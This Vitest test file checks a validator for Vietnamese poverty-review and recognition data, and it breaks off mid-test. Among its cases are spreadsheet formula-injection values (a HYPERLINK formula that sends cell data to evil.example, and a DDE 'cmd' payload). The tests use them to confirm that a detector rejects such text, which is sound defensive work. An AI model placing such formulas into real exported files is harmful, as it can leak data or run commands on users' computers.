import { mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { formatText } from '../src/domain/validation/format-report.ts';
import { isNormalizedName } from '../src/domain/validation/rules/normalized-name.ts';
import { validate } from '../src/domain/validation/validate.ts';
import { MINI_RELEASE, writeMini, type MiniFiles } from './fixtures/mini.ts';

const R = `releases/${MINI_RELEASE}`;

/** The movement's final review (2026) awards today's xã Hoa Thám (2025-07), formed from 10001, 10002 and half of 10003, for a criterion. */
const TODAYS_COMMUNE_AWARD = {
  date: '2026-02-10',
  recipient: { kind: 'unit', vintage: '2025-07', unit: '20001', name: 'Cán bộ và Nhân dân xã Hoa Thám' },
  claims: ['commune-zone'],
  profile: undefined,
};

function run(mutate?: (f: MiniFiles) => void, options: { rehash?: boolean; after?: (dataRoot: string) => void } = {}) {
  const { root, dataRoot } = writeMini(mutate, { rehash: options.rehash ?? true });
  options.after?.(dataRoot);
  return validate({ dataRoot, contentRoot: path.join(root, 'content') }).report;
}

describe('the mini fixture', () => {
  it('passes every rule and evaluates its units', () => {
    const report = run();
    expect(report.errors).toEqual([]);
    expect(report.warnings).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.evaluations).toContainEqual({ vintage: '2020-01', unit: '10001', criterion: 'commune-especially-difficult', asOf: 2024, met: true, evaluable: true, basis: 'reported' });
    expect(report.evaluations).toContainEqual({ vintage: '2020-01', unit: '101', criterion: 'district-poor', asOf: 2024, met: true, evaluable: true, basis: 'reported' });
    // 2025-07 communes have no 2021 baseline of their own: no official result can be met
    expect(report.evaluations.filter((e) => e.vintage === '2025-07' && e.basis === 'reported' && e.evaluable)).toEqual([]);
    // on the series carried from 10001, 10002 and half of 10003, xã Hoa Thám (20001) is an indication:
    // poor + near-poor 750 + 300 = 1,050 in 2021 → 150 + 250 = 400 in 2025, more than half gone
    expect(report.evaluations).toContainEqual({ vintage: '2025-07', unit: '20001', criterion: 'commune-zone', asOf: 2025, met: true, evaluable: true, basis: 'carried' });
    expect(report.evaluations.filter((e) => e.basis === 'carried').every((e) => e.vintage === '2025-07')).toBe(true);
    expect(report.targets.find((t) => t.target === 'province-rate-reduction' && t.year === 2022)).toMatchObject({ value: 3.6, met: true, exceeding: true });
  });
});

/** [rule, file, JSON pointer, the change that breaks it] — each case must produce exactly that problem. */
const cases: [string, string, string, (f: MiniFiles) => void][] = [
  ['schema', `${R}/units.json`, '/vintages/0/units/1/type', (f) => { f.units.vintages[0].units[1].type = 'quận'; }],
  ['schema', `${R}/observations.json`, '/observations/0', (f) => { f.observations.observations[0].note = 'thừa'; }],
  ['schema', 'releases/index.json', '/releases/0/status', (f) => { f.manifest.releases[0].status = 'final'; }],
  ['schema', `${R}/recognitions.json`, '/recognitions/0/class', (f) => { f.recognitions.recognitions[0].award = 'labor-order'; }],
  ['count-non-negative-integer', `${R}/observations.json`, '/observations/0/poor', (f) => { f.observations.observations[0].poor = -1; }],
  ['count-non-negative-integer', `${R}/observations.json`, '/observations/1/households', (f) => { f.observations.observations[1].households = 1000.5; }],
  ['count-non-negative-integer', `${R}/observations.json`, '/observations/0/ethnicMinority/poor', (f) => { f.observations.observations[0].ethnicMinority.poor = '12'; }],
  ['vintage-duplicate', `${R}/units.json`, '/vintages/1/id', (f) => { f.units.vintages[1].id = '2020-01'; }],
  ['vintage-period', `${R}/units.json`, '/vintages/0/validTo', (f) => { f.units.vintages[0].validTo = '2019-12-31'; }],
  ['unit-code-duplicate', `${R}/units.json`, '/vintages/0/units/4/code', (f) => { f.units.vintages[0].units[4].code = '10001'; f.units.vintages[0].units[4].classifications = undefined; }],
  ['unit-code-format', `${R}/units.json`, '/vintages/1/units/1/code', (f) => { f.units.vintages[1].units[1].code = '2001'; f.observations.observations.find((o: any) => o.unit === '20001').unit = '2001'; f.crosswalks.crosswalks[0].links.filter((l: any) => l.to === '20001').forEach((l: any) => { l.to = '2001'; }); }],
  ['name-not-normalized', `${R}/units.json`, '/vintages/0/units/2/name', (f) => { f.units.vintages[0].units[2].name = 'Na  Sầm'; }],
  ['name-not-normalized', `${R}/units.json`, '/vintages/0/units/2/name', (f) => { f.units.vintages[0].units[2].name = 'Na\u00a0Sầm'; }],
  ['name-not-normalized', `${R}/units.json`, '/vintages/0/units/2/name', (f) => { f.units.vintages[0].units[2].name = 'Na Sầm '; }],
  ['name-not-normalized', `${R}/units.json`, '/vintages/0/units/2/name', (f) => { f.units.vintages[0].units[2].name = 'Na Sầm'.normalize('NFD'); }],
  ['parent-unknown', `${R}/units.json`, '/vintages/0/units/3/parent', (f) => { f.units.vintages[0].units[3].parent = '109'; }],
  ['parent-level', `${R}/units.json`, '/vintages/0/units/4/parent', (f) => { f.units.vintages[0].units[4].parent = '10001'; }],
  ['parent-missing', `${R}/units.json`, '/vintages/1/units/2', (f) => { delete f.units.vintages[1].units[2].parent; }],
  ['classification-period', `${R}/units.json`, '/vintages/0/units/1/classifications/0/to', (f) => { f.units.vintages[0].units[1].classifications[0].to = 2020; }],
  ['classification-level', `${R}/units.json`, '/vintages/0/units/2/classifications/0/kind', (f) => { f.units.vintages[0].units[2].classifications = [{ kind: 'zone', value: 'I', from: 2021, to: null, source: 's-phan-loai' }]; }],
  ['source-unknown', `${R}/units.json`, '/vintages/0/units/1/classifications/0/source', (f) => { f.units.vintages[0].units[1].classifications[0].source = 's-khong-co'; }],
  ['source-unknown', `${R}/observations.json`, '/observations/2/source', (f) => { f.observations.observations[2].source = 's-khong-co'; }],
  ['source-unknown', `${R}/crosswalks.json`, '/crosswalks/0/basis', (f) => { f.crosswalks.crosswalks[0].basis = 's-khong-co'; }],
  ['source-unknown', `${R}/recognitions.json`, '/recognitions/0/source', (f) => { f.recognitions.recognitions[0].source = 's-khong-co'; }],
  ['source-duplicate', `${R}/observations.json`, '/sources/0/id', (f) => { f.observations.sources[0].id = 's-phan-loai'; f.observations.observations.forEach((o: any) => { if (o.source === 's-minh-hoa') o.source = 's-phan-loai'; }); }],
  ['source-note-required', `${R}/observations.json`, '/sources/1/note', (f) => { delete f.observations.sources[1].note; }],
  ['observation-duplicate', `${R}/observations.json`, '/observations/28', (f) => { f.observations.observations.push({ ...f.observations.observations[25] }); }],
  ['vintage-unknown', `${R}/observations.json`, '/observations/25/vintage', (f) => { f.observations.observations[25].vintage = '2019-01'; }],
  ['unit-unknown', `${R}/observations.json`, '/observations/0/unit', (f) => { f.observations.observations[0].unit = '10009'; }],
  ['households-zero', `${R}/observations.json`, '/observations/0/households', (f) => { Object.assign(f.observations.observations[0], { households: 0, poor: 0, nearPoor: 0 }); delete f.observations.observations[0].ethnicMinority; }],
  ['poor-within-households', `${R}/observations.json`, '/observations/5/poor', (f) => { f.observations.observations[5].nearPoor = 900; f.observations.observations[17].nearPoor += 800; }],
  ['ethnic-minority-within-unit', `${R}/observations.json`, '/observations/0/ethnicMinority/households', (f) => { f.observations.observations[0].ethnicMinority.households = 1001; }],
  ['ethnic-minority-within-unit', `${R}/observations.json`, '/observations/1/ethnicMinority/poor', (f) => { f.observations.observations[1].ethnicMinority.poor = 301; }],
  ['parent-sum-mismatch', `${R}/observations.json`, '/observations/16/poor', (f) => { f.observations.observations[16].poor = 601; }],
  ['province-year-duplicate', `${R}/observations.json`, '/observations/28/year', (f) => { f.observations.observations.push({ vintage: '2025-07', unit: '20', year: 2021, households: 5000, poor: 1000, nearPoor: 450, source: 's-minh-hoa' }); }],
  ['crosswalk-unit-unknown', `${R}/crosswalks.json`, '/crosswalks/0/links/1/to', (f) => { f.crosswalks.crosswalks[0].links[1].to = '20009'; }],
  ['crosswalk-shares-sum', `${R}/crosswalks.json`, '/crosswalks/0/links/3/share', (f) => { f.crosswalks.crosswalks[0].links[4].share = 0.4; }],
  ['crosswalk-incomplete', `${R}/crosswalks.json`, '/crosswalks/0/links', (f) => { f.crosswalks.crosswalks[0].links.splice(5, 1); }],
  ['crosswalk-direction', `${R}/crosswalks.json`, '/crosswalks/0/to', (f) => { const c = f.crosswalks.crosswalks[0]; f.crosswalks.crosswalks.push({ from: c.to, to: c.from, links: [{ from: '20', to: '20' }, { from: '20001', to: '10001' }, { from: '20002', to: '10003' }] }); f.crosswalks.crosswalks.shift(); }],
  ['recognition-duplicate', `${R}/recognitions.json`, '/recognitions/1/id', (f) => { f.recognitions.recognitions.push({ ...f.recognitions.recognitions[0] }); }],
  ['recipient-unit-required', `${R}/recognitions.json`, '/recognitions/0/recipient', (f) => { const r = f.recognitions.recognitions[0]; delete r.recipient.vintage; delete r.recipient.unit; r.claims = []; }],
  ['unit-unknown', `${R}/recognitions.json`, '/recognitions/0/recipient/unit', (f) => { f.recognitions.recognitions[0].recipient.unit = '10009'; f.recognitions.recognitions[0].claims = []; }],
  ['criterion-unknown', `${R}/recognitions.json`, '/recognitions/0/claims/0', (f) => { f.recognitions.recognitions[0].claims = ['commune-excellent']; }],
  ['claim-unsupported', `${R}/recognitions.json`, '/recognitions/0/claims/0', (f) => { f.recognitions.recognitions[0].date = '2023-12-30'; }],
  // met as of 2024 only, and the 2024 review is not over by the middle of 2024
  ['claim-unsupported', `${R}/recognitions.json`, '/recognitions/0/claims/0', (f) => { f.recognitions.recognitions[0].date = '2024-06-15'; }],
  ['claim-unsupported', `${R}/recognitions.json`, '/recognitions/0/claims/0', (f) => { f.recognitions.recognitions[0].recipient.unit = '10002'; }],
  ['claim-unsupported', `${R}/recognitions.json`, '/recognitions/0/claims/0', (f) => { Object.assign(f.recognitions.recognitions[0], TODAYS_COMMUNE_AWARD); }],
  ['ground-unknown', `${R}/recognitions.json`, '/recognitions/0/grounds/0', (f) => { f.recognitions.recognitions[0].grounds = ['khong-co']; }],
  ['ground-unknown', `${R}/recognitions.json`, '/recognitions/0/grounds/1', (f) => { f.recognitions.recognitions[0].recipient.kind = 'collective'; f.recognitions.recognitions[0].grounds = ['agency', 'district-poor']; }],
  ['ground-recipient-mismatch', `${R}/recognitions.json`, '/recognitions/0/grounds/0', (f) => { f.recognitions.recognitions[0].grounds = ['household']; }],
  ['schema', `${R}/recognitions.json`, '/recognitions/0/date', (f) => { f.recognitions.recognitions[0].date = '2025-13'; }],
  ['release-duplicate', 'releases/index.json', '/releases/1/id', (f) => { f.manifest.releases.push({ ...f.manifest.releases[0] }); }],
  ['current-unknown', 'releases/index.json', '/current', (f) => { f.manifest.current = '2026.1'; }],
  ['current-status', 'releases/index.json', '/current', (f) => { f.manifest.releases[0].status = 'draft'; }],
  ['release-missing', 'releases/index.json', '/releases/1/id', (f) => { f.manifest.releases.push({ id: '2026.1', title: 'Chưa có', status: 'draft' }); }],
  ['year-outside-vintage', `${R}/observations.json`, '/observations/25/year', (f) => { f.observations.observations[25].year = 2024; f.observations.observations[26].year = 2024; f.observations.observations[27].year = 2020; f.observations.observations[27].vintage = '2025-07'; f.observations.observations[24].year = 2020; f.observations.observations[24].vintage = '2020-01'; }],
  // the mini release is published on 10/02/2026: no review after 2026 can be in it
  ['year-in-future', `${R}/observations.json`, '/observations/27/year', (f) => { f.observations.observations[27].year = 2027; }],
  ['year-in-future', `${R}/observations.json`, '/observations/0/year', (f) => { f.observations.observations[0].year = 2062; }],
  ['formula-like-text', `${R}/units.json`, '/vintages/0/units/3/name', (f) => { f.units.vintages[0].units[3].name = '=HYPERLINK("http://evil.example/?x="&A1,"x")'; }],
  ['formula-like-text', `${R}/observations.json`, '/sources/0/title', (f) => { f.observations.sources[0].title = "=cmd|' /C calc'!A0"; }],
  ['formula-like-text', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = '@SUM(1+1)'; }],
  ['formula-like-text', `${R}/crosswalks.json`, '/sources/0/issuer', (f) => { f.crosswalks.sources[0].issuer = '+1+1'; }],
  ['formula-like-text', 'releases/index.json', '/releases/0/notes', (f) => { f.manifest.releases[0].notes = '-2+3+cmd'; }],
  ['personal-data-phone', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = 'Ông Nông Văn A, SĐT 0912\u00a0345\u00a0678'; f.recognitions.recognitions[0].recipient.kind = 'individual'; }],
  ['personal-data-id-number', `${R}/recognitions.json`, '/sources/0/note', (f) => { f.recognitions.sources[0].note = 'người nhận: CCCD 001 092 012 345'; }],
  ['personal-data-email', 'releases/index.json', '/releases/0/notes', (f) => { f.manifest.releases[0].notes = 'Hỏi thêm: nva@gmail.com'; }],
  ['personal-data-street-address', `${R}/units.json`, '/sources/0/note', (f) => { f.units.sources[0].note = 'Lưu tại Số 12 Trần Đăng Ninh'; }],
  ['personal-data-social-link', `${R}/observations.json`, '/sources/1/url', (f) => { f.observations.sources[1].url = 'https://zalo.me/0903123456'; }],
  ['name-not-normalized', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = 'Cán bộ và Nhân dân xã Hoa Tha\u0301m '; }],
  ['draft-hashes', 'releases/index.json', '/releases/0/sha256', (f) => { f.manifest.current = '2024.1'; f.manifest.releases.push({ id: '2024.1', title: 'Cũ', status: 'published', sha256: {} }); f.manifest.releases[0].status = 'draft'; f.manifest.releases[0].sha256 = {}; }],
];

describe('recognitions as the press reports them', () => {
  it('accept a decision without its number, dated to the month, on grounds assessed from dossiers', () => {
    const report = run((f) => {
      f.recognitions.recognitions.push({
        id: 'r-bao-chi', award: 'provincial-certificate', decision: null, date: '2025-04', issuer: 'Chủ tịch UBND tỉnh',
        recipient: { kind: 'enterprise', name: 'Hợp tác xã Chè Hoa Thám' }, grounds: ['enterprise', 'credit-institution'], source: f.recognitions.recognitions[0].source,
      });
    });
    expect(report.errors).toEqual([]);
  });
});

describe('a recognition naming a profile that is not there', () => {
  const withoutProfile = (dataRoot: string) => rmSync(path.join(dataRoot, '..', 'content', 'profiles', 'xa-hoa-tham.md'));
  /** The mini release as a draft, beside a published release the site shows meanwhile (its files are not read). */
  const asDraft = (f: MiniFiles) => {
    f.manifest.current = '2024.1';
    f.manifest.releases.unshift({ id: '2024.1', title: 'Cũ', publishedAt: '2025-01-10', status: 'published', sha256: {} });
    f.manifest.releases[1].status = 'draft';
    delete f.manifest.releases[1].publishedAt;
  };

  it('in a published release, is a withdrawn profile: a warning with file, pointer, rule and slug, and the data stay valid', () => {
    const report = run(undefined, { after: withoutProfile });
    expect(report.errors).toEqual([]);
    expect(report.warnings).toEqual([{
      file: `${R}/recognitions.json`,
      path: '/recognitions/0/profile',
      rule: 'profile-withdrawn',
      message:
        'hồ sơ điển hình "xa-hoa-tham" không còn trong content/profiles (đã rút lại sự đồng ý, hoặc tệp đã đổi tên): trang hiện khen thưởng này không kèm liên kết tới hồ sơ; ' +
        'tệp recognitions.json của phiên bản đã công bố không sửa được và vẫn ghi mã "xa-hoa-tham", còn các tệp CSV, Excel dựng lại mỗi lần thì bỏ mã này',
      value: 'xa-hoa-tham',
    }]);
    expect(report.ok).toBe(true);
  });

  it('in a draft, is a mistake to fix before publishing: an error', () => {
    const { root, dataRoot } = writeMini((f) => { asDraft(f); f.recognitions.recognitions[0].profile = 'xa-hoa-thamm'; });
    const report = validate({ dataRoot, contentRoot: path.join(root, 'content'), releaseId: MINI_RELEASE }).report;
    expect(report.errors.filter((e) => e.file === `${R}/recognitions.json`)).toEqual([{
      file: `${R}/recognitions.json`, path: '/recognitions/0/profile', rule: 'profile-unknown',
      message: 'không có hồ sơ điển hình "xa-hoa-thamm" trong content/profiles', value: 'xa-hoa-thamm',
    }]);
    expect(report.warnings.filter((w) => w.rule === 'profile-withdrawn')).toEqual([]);
    expect(report.ok).toBe(false);
  });

  it('in a draft, stays an error even when the profile was deleted', () => {
    const { root, dataRoot } = writeMini(asDraft);
    withoutProfile(dataRoot);
    const report = validate({ dataRoot, contentRoot: path.join(root, 'content'), releaseId: MINI_RELEASE }).report;
    expect(report.errors.filter((e) => e.rule === 'profile-unknown').map((e) => e.path)).toEqual(['/recognitions/0/profile']);
  });
});

describe('a claim rests on the reviews approved before the decision', () => {
  it('names the last year it could use', () => {
    const problem = run((f) => { f.recognitions.recognitions[0].date = '2024-06-15'; }).errors.find((e) => e.rule === 'claim-unsupported')!;
    expect(problem.message).toContain('đến 2023 (năm cuối có kết quả rà soát trước quyết định năm 2024)');
  });
  it('accepts the same claim decided the next year, on the 2024 review', () => {
    expect(run((f) => { f.recognitions.recognitions[0].date = '2025-01'; }).errors).toEqual([]);
  });
  it("says why a commune formed after the baseline cannot carry a claim, and what to write instead", () => {
    const report = run((f) => { Object.assign(f.recognitions.recognitions[0], TODAYS_COMMUNE_AWARD); });
    // The indication on its carried series is met (as in the first test), but never supports a claim.
    expect(report.evaluations).toContainEqual(expect.objectContaining({ vintage: '2025-07', unit: '20001', criterion: 'commune-zone', met: true, basis: 'carried' }));
    const problem = report.errors.find((e) => e.rule === 'claim-unsupported')!;
    expect(problem.message).toBe(
      'số liệu không chứng minh tiêu chí "commune-zone": xã Hoa Thám (địa giới 2025-07) không có số liệu năm gốc 2021 của riêng mình, nên không có kết quả đánh giá chính thức; ' +
        'ước tính trên số liệu quy đổi từ các đơn vị cũ không dùng để chứng minh khen thưởng. ' +
        'Khen thưởng cho một đơn vị cũ (xã Hoa Thám (mã 10001), xã Quý Hòa (mã 10002), thị trấn Đình Lập (mã 10003)) thì ghi người nhận là đơn vị đó, "vintage": "2020-01"; ' +
        'khen thưởng cho xã Hoa Thám hiện nay thì bỏ "commune-zone" khỏi "claims"',
    );
  });
});

/**
 * A year's review is done in its last months and approved in December or January: no
 * release can hold a later year's figures than the year of its date. A published release's
 * date is its publishedAt, so it validates the same on any day; a draft's is today in Vietnam.
 */
describe('a review year not yet come (year-in-future)', () => {
  afterEach(() => { vi.useRealTimers(); });
  const OBSERVATIONS = `${R}/observations.json`;
  /** The province's review of `year`, on today's boundaries: record 28 of the mini release. */
  const review = (year: number) => (f: MiniFiles) => { f.observations.observations.push({ vintage: '2025-07', unit: '20', year, households: 5200, poor: 150, nearPoor: 300, source: 's-minh-hoa' }); };
  /** The mini release as a draft beside a published one the site shows meanwhile (its files are not read). */
  const asDraft = (f: MiniFiles) => {
    f.manifest.current = '2024.1';
    f.manifest.releases.unshift({ id: '2024.1', title: 'Cũ', publishedAt: '2025-01-10', status: 'published', sha256: {} });
    f.manifest.releases[1].status = 'draft';
    f.manifest.releases[1].publishedAt = null;
  };
  const observationErrors = (mutate: (f: MiniFiles) => void, options: { draftDate?: string } = {}) => {
    const { root, dataRoot } = writeMini(mutate);
    return validate({ dataRoot, releaseId: MINI_RELEASE, contentRoot: path.join(root, 'content'), ...options }).report.errors.filter((e) => e.file === OBSERVATIONS);
  };
  const at = (isoTime: string) => { vi.useFakeTimers({ toFake: ['Date'] }); vi.setSystemTime(new Date(isoTime)); };

  it('in a published release, is judged at its publication date, the same on any day', () => {
    const reports = ['2026-03-01T03:00:00Z', '2031-06-01T03:00:00Z'].map((now) => {
      at(now);
      return { later: observationErrors(review(2027), { draftDate: now.slice(0, 10) }), same: observationErrors(review(2026)) };
    });
    expect(reports[1]).toEqual(reports[0]);
    expect(reports[0]!.same).toEqual([]);
    expect(reports[0]!.later).toEqual([{
      file: OBSERVATIONS, path: '/observations/28/year', rule: 'year-in-future', value: 2027,
      message:
        'năm 2027 chưa tới vào ngày công bố phiên bản (10/02/2026): kết quả rà soát của một năm chỉ có từ cuối năm đó (rà soát vào các tháng cuối năm, phê duyệt vào tháng 12 hoặc tháng 1 năm sau). ' +
        'Phiên bản đã công bố không sửa được: sửa năm trong một bản nháp mới rồi công bố bản nháp đó',
    }]);
  });

  it('in a draft, is judged at the day given (publishing gives its date): this year\'s review is let in, a later one refused', () => {
    const draft = (f: MiniFiles) => { asDraft(f); review(2027)(f); };
    expect(observationErrors(draft, { draftDate: '2027-01-15' })).toEqual([]);
    const errors = observationErrors(draft, { draftDate: '2026-12-05' });
    expect(errors.map(({ path, rule, value }) => ({ path, rule, value }))).toEqual([{ path: '/observations/28/year', rule: 'year-in-future', value: 2027 }]);
    expect(errors[0]!.message).toMatch(/^năm 2027 chưa tới vào ngày 05\/12\/2026 \(bản nháp được xét theo ngày hôm nay ở Việt Nam, hoặc theo ngày công bố khi công bố\): .*Sửa lại năm trong bản nháp: có thể là gõ nhầm \(2062 thay cho 2026\)$/);
  });

  it('in a draft, is judged by default at today in Vietnam (UTC+7), not at the UTC day', () => {
    const draft = (f: MiniFiles) => { asDraft(f); review(2027)(f); };
    at('2026-12-31T16:30:00Z'); // 23:30 on 31/12/2026 in Lạng Sơn
    expect(observationErrors(draft).map((e) => e.rule)).toEqual(['year-in-future']);
    at('2026-12-31T17:30:00Z'); // 00:30 on 01/01/2027 in Lạng Sơn, still 2026 in UTC
    expect(observationErrors(draft)).toEqual([]);
  });

  it('is said instead of year-outside-vintage: a typo under the old boundaries is not a year of the new ones', () => {
    const errors = observationErrors((f) => { f.observations.observations[0].year = 2062; });
    expect(errors.filter((e) => e.path === '/observations/0/year').map((e) => e.rule)).toEqual(['year-in-future']);
  });
});

describe('every validation rule reports file, JSON pointer and rule', () => {
  it.each(cases)('%s at %s %s', (rule, file, pointer, mutate) => {
    const report = run(mutate, {
      after: (dataRoot) => {
        // the draft-hashes case names an older release that must exist on disk
        mkdirSync(path.join(dataRoot, 'releases', '2024.1'), { recursive: true });
        for (const name of ['units', 'observations', 'recognitions']) writeFileSync(path.join(dataRoot, 'releases', '2024.1', `${name}.json`), '{}');
      },
    });
    const matching = report.errors.filter((e) => e.rule === rule && e.file === file && e.path === pointer);
    expect(matching, JSON.stringify(report.errors.slice(0, 5), null, 1)).toHaveLength(1);
    expect(matching[0]!.message).toMatch(/\p{L}/u);
    expect(report.ok).toBe(false);
  });
});

describe('a normalized name', () => {
  const byCopy = (name: string) => name.normalize('NFC').replace(/\s+/g, ' ').trim() === name;
  it.each(['Na Sầm', 'Hoa Thám', 'A', '', ' ', 'Na  Sầm', ' Na Sầm', 'Na Sầm ', 'Na\tSầm', 'Na\nSầm', 'Na\u00a0Sầm', 'Na\u2000Sầm', 'Na\u2028Sầm', 'Na\ufeffSầm', 'Na Sầm'.normalize('NFD'), 'Cán bộ và Nhân dân xã Hoa Tha\u0301m', 'Ä\u0308', '\u212b'])(
    'is judged %j without a copy as with one',
    (name) => {
      expect(isNormalizedName(name)).toBe(byCopy(name));
    },
  );
});

/** Adds a vintage between the mini's two (same communes as 2025-07) and both steps, so the direct crosswalk has a composition. */
function withSteps(f: MiniFiles): void {
  const v2025 = f.units.vintages[1];
  f.units.vintages.splice(1, 0, { ...structuredClone(v2025), id: '2024-12', validFrom: '2024-12-01', validTo: '2025-06-30' });
  f.units.vintages[1].units.forEach((u: any) => delete u.classifications);
  const direct = f.crosswalks.crosswalks[0];
  f.crosswalks.crosswalks.push(
    { from: '2020-01', to: '2024-12', links: structuredClone(direct.links) },
    { from: '2024-12', to: '2025-07', links: [{ from: '20', to: '20' }, { from: '20001', to: '20001' }, { from: '20002', to: '20002' }] },
  );
}

/** [rule, file, JSON pointer, value, the change that breaks it] for the crosswalk rules: the value names what is wrong. */
const crosswalkCases: [string, string, string, unknown, (f: MiniFiles) => void][] = [
  ['crosswalk-share-range', `${R}/crosswalks.json`, '/crosswalks/0/links/3/share', 1.5, (f) => { f.crosswalks.crosswalks[0].links[3].share = 1.5; }],
  ['crosswalk-share-range', `${R}/crosswalks.json`, '/crosswalks/0/links/3/share', 0, (f) => { f.crosswalks.crosswalks[0].links[3].share = 0; f.crosswalks.crosswalks[0].links[4].share = 1; }],
  ['crosswalk-shares-sum', `${R}/crosswalks.json`, '/crosswalks/0/links/3/share', [0.5, 0.4], (f) => { f.crosswalks.crosswalks[0].links[4].share = 0.4; }],
  ['crosswalk-no-predecessor', `${R}/crosswalks.json`, '/crosswalks/0/links', '20002', (f) => { f.crosswalks.crosswalks[0].links[3].to = '20001'; f.crosswalks.crosswalks[0].links[5].to = '20001'; }],
  ['crosswalk-cycle', `${R}/crosswalks.json`, '/crosswalks/1/to', '2025-07 → 2020-01 → 2025-07', (f) => { f.crosswalks.crosswalks.push({ from: '2025-07', to: '2020-01', links: [{ from: '20', to: '20' }, { from: '20001', to: '10001' }, { from: '20002', to: '10003' }] }); }],
  ['crosswalk-composition-mismatch', `${R}/crosswalks.json`, '/crosswalks/0/links/3/share', { from: '10003', to: '20002', direct: 0.4, composed: 0.5 }, (f) => { withSteps(f); f.crosswalks.crosswalks[0].links[3].share = 0.4; f.crosswalks.crosswalks[0].links[4].share = 0.6; }],
];

describe('crosswalk rules report file, JSON pointer, rule and the values at fault', () => {
  it.each(crosswalkCases)('%s at %s %s', (rule, file, pointer, value, mutate) => {
    const report = run(mutate);
    const matching = report.errors.filter((e) => e.rule === rule && e.file === file && e.path === pointer);
    expect(matching, JSON.stringify(report.errors.slice(0, 5), null, 1)).toHaveLength(1);
    expect(matching[0]!.value).toEqual(value);
    expect(report.ok).toBe(false);
  });

  it('names the shares in the messages', () => {
    const sum = run((f) => { f.crosswalks.crosswalks[0].links[4].share = 0.4; }).errors.find((e) => e.rule === 'crosswalk-shares-sum')!;
    expect(sum.message).toBe('tỷ lệ chuyển của đơn vị "10003" cộng lại: 0,5 + 0,4 = 0,9, phải bằng 1');
    const mismatch = run((f) => { withSteps(f); f.crosswalks.crosswalks[0].links[3].share = 0.4; f.crosswalks.crosswalks[0].links[4].share = 0.6; }).errors.find((e) => e.rule === 'crosswalk-composition-mismatch' && e.path.endsWith('/links/3/share'))!;
    expect(mismatch.message).toBe('đơn vị "10003" sang "20002": bảng 2020-01 → 2025-07 ghi tỷ lệ 0,4, còn đi qua 2024-12 thì được 0,5');
  });

  it('accepts a direct crosswalk that agrees with its steps to 4 decimals', () => {
    const report = run((f) => { withSteps(f); f.crosswalks.crosswalks[0].links[3].share = 0.50004; f.crosswalks.crosswalks[0].links[4].share = 0.49996; });
    expect(report.errors).toEqual([]);
  });
});

describe('rules about files and hashes', () => {
  it('reports a JSON syntax error with line and column', () => {
    const report = run(undefined, {
      after: (dataRoot) => writeFileSync(path.join(dataRoot, R, 'recognitions.json'), '{\n  "recognitions": [\n    { "id": "r-1", }\n  ]\n}\n'),
    });
    const problem = report.errors.find((e) => e.rule === 'json-syntax');
    expect(problem).toMatchObject({ file: `${R}/recognitions.json`, path: '', value: { line: 3, column: 20 } });
    expect(problem!.message).toContain('dòng 3, cột 20');
  });
  it('reports a missing required file', () => {
    const report = run(undefined, { after: (dataRoot) => rmSync(path.join(dataRoot, R, 'observations.json')) });
    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'file-missing', file: `${R}/observations.json`, path: '' }));
    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'release-file-missing', file: 'releases/index.json', path: '/releases/0/sha256/observations.json' }));
  });
  it('refuses a published file changed after publication', () => {
    const report = run((f) => { f.observations.observations[0].nearPoor = 101; f.observations.observations[16].nearPoor = 201; }, { rehash: false });
    const mismatch = report.errors.filter((e) => e.rule === 'published-hash-mismatch');
    expect(mismatch).toHaveLength(1);
    expect(mismatch[0]).toMatchObject({ file: 'releases/index.json', path: '/releases/0/sha256/observations.json' });
    expect(mismatch[0]!.value).toMatch(/^[0-9a-f]{64}$/);
    expect(mismatch[0]!.message).toContain('phiên bản mới');
  });
  it('requires hashes on a published release', () => {
    const report = run((f) => { f.manifest.releases[0].sha256 = { 'units.json': '0'.repeat(64) }; });
    expect(report.errors.filter((e) => e.rule === 'published-hash-missing').map((e) => e.path)).toEqual(['/releases/0/sha256', '/releases/0/sha256', '/releases/0/sha256']);
    // Staff read the status in words, not the manifest's English code.
    expect(report.errors.find((e) => e.rule === 'published-hash-missing')!.message).toBe('phiên bản ở trạng thái "đã công bố" phải ghi sha256 của crosswalks.json');
  });
  it('checks the criteria file against its schema', () => {
    const report = run(undefined, {
      after: (dataRoot) => writeFileSync(path.join(dataRoot, 'criteria', '2021-2025.json'), JSON.stringify({ id: '2021-2025', criteria: [] })),
    });
    expect(report.errors.some((e) => e.rule === 'schema' && e.file === 'criteria/2021-2025.json')).toBe(true);
  });
  describe('a review after the plan confirmed under its poverty standard (standardThrough)', () => {
    const confirm = (year: number) => (dataRoot: string) => {
      const file = path.join(dataRoot, 'criteria', '2021-2025.json');
      const criteria = JSON.parse(readFileSync(file, 'utf8'));
      criteria.standardThrough = {
        year,
        quote: 'Kết quả rà soát năm 2026 theo chuẩn nghèo đa chiều giai đoạn 2022–2025.',
        source: { id: 'qd-ra-soat-2026', kind: 'official', title: 'Quyết định phê duyệt kết quả rà soát năm 2026', issuer: 'UBND tỉnh Lạng Sơn', date: '2027-01-15' },
      };
      writeFileSync(file, JSON.stringify(criteria));
    };
    it('refuses a year inside the plan, at its path', () => {
      const report = run(undefined, { after: confirm(2025) });
      expect(report.errors).toEqual([expect.objectContaining({ rule: 'schema', file: 'criteria/2021-2025.json', path: '/standardThrough/year' })]);
      expect(report.errors[0]!.message).toContain('phải sau năm cuối giai đoạn');
    });
    /** The methodology page of an edition, with these source ids in its front matter. */
    const methodPage = (file: string, ids: string[]) => (dataRoot: string) => {
      const full = path.join(dataRoot, '..', 'content', file);
      mkdirSync(path.dirname(full), { recursive: true });
      const sources = ids.map((id) => `  - id: ${id}\n    kind: official\n    title: Nguồn ${id}\n`).join('');
      writeFileSync(full, `---\ntitle: Phương pháp\nsources:\n${sources}---\n\n## Chuẩn nghèo\n`);
    };
    const both = (...steps: ((dataRoot: string) => void)[]) => (dataRoot: string) => { for (const step of steps) step(dataRoot); };
    it('refuses it while the methodology page does not cite the confirmation, page by page', () => {
      const report = run(undefined, { after: both(confirm(2026), methodPage('pages/phuong-phap.md', ['qd-ra-soat-2026']), methodPage('pages/en/phuong-phap.md', ['o-nd-07-2021'])) });
